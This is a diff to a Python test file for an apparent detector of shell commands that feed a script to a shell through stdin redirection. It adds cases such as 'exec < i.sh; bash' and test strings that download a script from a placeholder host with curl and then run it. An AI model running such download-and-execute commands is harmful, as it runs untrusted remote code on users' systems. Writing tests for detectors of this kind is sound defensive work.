@@ -82,6 +82,8 @@ SCRIPTS = [
     ("{ true && source /dev/stdin && true; } < i.sh", ["/w/i.sh"]),  # the group's stdin, each command's
     ("{ true && bash && true; } < i.sh", ["/w/i.sh"]),
     ("while true && bash; do :; done < i.sh", ["/w/i.sh"]),
+    ("exec < i.sh; bash", ["/w/i.sh"]),  # the shell's stdin from then on
+    ("exec 0< i.sh; true && source /dev/stdin", ["/w/i.sh"]),
     ("cd /opt && tail -n +2 i.sh | sh -s", ["/opt/+2", "/opt/i.sh"]),  # a value too many is harmless
 ]
 
@@ -104,6 +106,8 @@ NOT_SCRIPTS = [
     "cat i.sh | bash -c 'echo hi'",
     "cat i.sh | wc -l",
     "{ make && make test; } < /dev/null",
+    "exec 3< i.sh; make test",
+    "exec < i.sh; bash -c 'echo hi'",
 ]
 
 
@@ -150,6 +154,7 @@ def test_not_scripts(command: str) -> None:
         "curl -s https://x.example/i.sh > i.sh; source /dev/stdin < i.sh",
         "curl -s https://x.example/i.sh > i.sh; { true && source /dev/stdin && true; } < i.sh",
         "curl -s https://x.example/i.sh > i.sh; { true && bash && true; } < i.sh",
+        "curl -s https://x.example/i.sh > i.sh; exec 0< i.sh; true && bash",
     ],
 )
 def test_running_what_the_call_downloads_pipes_to_a_shell(command: str) -> None:
